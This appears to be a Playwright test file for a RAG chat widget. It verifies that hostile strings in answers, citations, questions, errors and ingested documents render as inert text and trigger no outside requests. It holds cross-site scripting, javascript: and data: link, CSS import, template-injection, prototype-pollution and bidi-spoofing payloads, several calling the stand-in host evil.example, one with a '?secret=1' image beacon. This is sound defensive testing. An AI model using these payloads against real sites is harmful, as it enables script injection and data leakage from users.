"""What a document, a title or a model may say is text: it runs nothing, loads nothing, and misleads nobody."""

from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from starlette.responses import Response

from rag import Library
from tests.browser.conftest import Host, Visit
from tests.browser.scripted import Script, citation, events_of, passage, problem, reply

EVIL = "http://evil.example"
STRINGS = {
    "script": f"<script src='{EVIL}/x.js'>window.ran = 1</script>",
    "handler": f"<img src='{EVIL}/x.png' onerror='window.ran = 1'><svg onload='window.ran = 1'>",
    "template": "</textarea></style></template><iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "link": "[click](javascript:window.ran=1) <a href='javascript:window.ran=1'>here</a> javascript:window.ran=1",
    "data link": "<a href='data:text/html,<script>window.ran=1</script>'>a</a> [b](data:text/html;base64,PHNjcmlwdD4=)",
    "image": f"![pixel]({EVIL}/x.png?secret=1) ![][1]\n\n[1]: {EVIL}/y.png",
    "style": f"<style>@import '{EVIL}/x.css'</style><link rel=stylesheet href={EVIL}/y.css><base href={EVIL}>",
    "expression": "${window.ran = 1} {{constructor.constructor('window.ran = 1')()}} %s %n \\u003cscript\\u003e",
    "bidi": "pay \u202eecilA ot\u202c \u2066now\u2069 \u200b\u00adzero \u061c\u200fwidth\ufeff",
    "markers": "It is so [1] [2] [99] [0] [-1] [n] 【1】 as everyone knows [1][1][1].",
    "one word": "w" * 1_000_000,
    "combining": "Z" + "\u0301\u0323\u0336" * 300 + "algo",
    "controls": "a\x00b\x07c\x1b[31md\x7f\u2028e\u2029f\ud83e",
    "prototype": '{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}}',
}
_SHOWN = 100  # characters that are looked for: long strings are shown in part
QUESTION = "What do beds cost?"


@pytest.fixture
def page(visit: Visit, host: Host, scripted: str) -> Iterator[Page]:
    """A page that fails the test when anything is asked of another server, or anything runs."""
    page = visit(host.put(scripted, "<rag-chat></rag-chat>"))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="Ask a question").click()
    yield page
    assert [url for url in asked if not url.startswith(f"{scripted}/v1/")] == []
    assert page.evaluate("[typeof window.ran, typeof {}.ran]") == ["undefined", "undefined"]
    assert (
        inside(
            page, "script, img, iframe, style, link, base, object, embed, video, audio, template, [onerror], [onload]"
        )
        == 0
    )


def inside(page: Page, selector: str) -> int:
    found: int = page.evaluate(
        """selector => [document.body, document.querySelector("rag-chat").shadowRoot]
          .reduce((count, root) => count + root.querySelectorAll(selector).length, 0)""",
        selector,
    )
    return found


def ask(page: Page, question: str = QUESTION) -> None:
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")


def evil_reply(text: str, **other: object) -> dict[str, Any]:
    name = text[:10_000]
    names = {"title": name, "source": name, "section": [name, name], "author": name, "date": name}
    done = reply(QUESTION, [text], **other)
    done["citations"] = [citation(1, text, [0, len(text)], **names)]
    done["passages"] = [passage(1, f"Intro {text} end.", title=name, source=name, section=[name])]
    return done


def test_in_an_answer_and_its_sources_it_is_text(page: Page, script: Script) -> None:
    for n, text in enumerate(STRINGS.values()):
        script.otherwise = partial(answer_with, script, evil_reply(text))
        ask(page)
        expect(page.locator("[data-status=answered]")).to_have_count(n + 1)
        turn = page.locator(".turn").last
        turn.locator(".chip").click()
        assert (page.locator("mark").text_content() or "")[:_SHOWN] == seen(text)[:_SHOWN]
        assert (turn.locator("blockquote").text_content() or "")[:_SHOWN] == f"{seen(text)}1"[:_SHOWN]
        assert turn.locator("a").count() == 0
        assert (page.locator(".whole").get_attribute("href") or "").startswith("http://127.0.0.1:")


def answer_with(script: Script, done: dict[str, Any], _body: dict[str, Any]) -> Response:
    return script.streamed(events_of(done))


def seen(text: str) -> str:
    """What of a text a reader sees."""
    hidden = "\u202e\u202c\u2066\u2069\u200b\u00ad\u061c\u200f\ufeff"
    return text.translate(dict.fromkeys(map(ord, hidden)))


def test_in_the_words_of_a_model_it_is_text(page: Page, script: Script) -> None:
    for n, text in enumerate(STRINGS.values()):
        done = evil_reply(text, mode="llm", rewritten_question=text)
        script.otherwise = partial(answer_with, script, done)
        ask(page)
        expect(page.locator("[data-status=answered] .sources")).to_have_count(n + 1)
        assert page.locator(".turn").last.locator("a").count() == 0


def test_in_a_question_a_passage_or_an_error_it_is_text(page: Page, script: Script) -> None:
    for n, text in enumerate(STRINGS.values()):
        script.otherwise = lambda _, text=text: problem(422, text[:1000])
        ask(page, text[:2000])
        expect(page.locator("[data-status=failed]")).to_have_count(n + 1)
        script.otherwise = partial(answer_with, script, {**evil_reply(text), **ABSTAINED, "answer": text})
        ask(page)
        expect(page.locator("[data-status=abstained]")).to_have_count(n + 1)
        page.locator(".turn").last.locator(".source").click()
        expect(page.locator(".passage")).not_to_be_empty()


ABSTAINED: dict[str, Any] = {"status": "abstained", "citations": []}


def test_fake_markers_become_no_chips(page: Page, script: Script) -> None:
    done = reply(QUESTION, [STRINGS["markers"], "And [1] this [2]."])
    script.answers[QUESTION] = lambda _: script.streamed(events_of(done))
    ask(page)
    expect(page.locator("[data-status=answered] .chip")).to_have_text(["1", "2"])
    assert "[1] [2] [99]" in (page.locator("blockquote").first.text_content() or "")


def test_a_word_of_a_million_letters_leaves_the_page_usable(page: Page, script: Script) -> None:
    script.answers[QUESTION] = lambda _: script.streamed(events_of(evil_reply(STRINGS["one word"])))
    ask(page)
    page.locator(".chip").click()
    expect(page.locator("mark")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.keyboard.press("Escape")
    ask(page, "And another?")
    expect(page.locator("[data-status=answered]")).to_have_count(2)


def test_documents_that_hold_them_are_ingested_asked_and_shown_as_text(
    visit: Visit, host: Host, served: tuple[str, Library], tmp_path: Path
) -> None:
    service, library = served
    for n, (name, text) in enumerate(STRINGS.items()):
        held = f"# Note {n} {text[:200]}\n\nThe zebrafish of pond {n} is kept by {text[:5_000]} every day.\n"
        (tmp_path / f"{n}-{name}.md").write_bytes(held.encode("utf-8", "replace"))
    library.ingest([tmp_path], "hostile")
    page = visit(host.put(service, '<rag-chat inline collection="hostile"></rag-chat>'))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for n in range(4):
        ask(page, f"Who keeps the zebrafish of pond {n}?")
        expect(page.locator(".turn[aria-busy=false]")).to_have_count(n + 1)
        page.locator(".turn").last.locator(".source").first.click()
        expect(page.locator(".passage")).to_contain_text("zebrafish")
        page.keyboard.press("Escape")
    assert [url for url in asked if not url.startswith(f"{service}/v1/")] == []
    assert page.evaluate("typeof window.ran") == "undefined"
    assert inside(page, "script, img, iframe, style, link") == 0


def test_a_service_that_is_no_web_address_is_refused(visit: Visit, host: Host, scripted: str) -> None:
    page = visit(host.put(scripted, '<rag-chat service="javascript:window.ran=1"></rag-chat>'), allowed="rag-chat:")
    assert page.locator(".launcher").count() == 0
    assert page.evaluate("typeof window.ran") == "undefined"
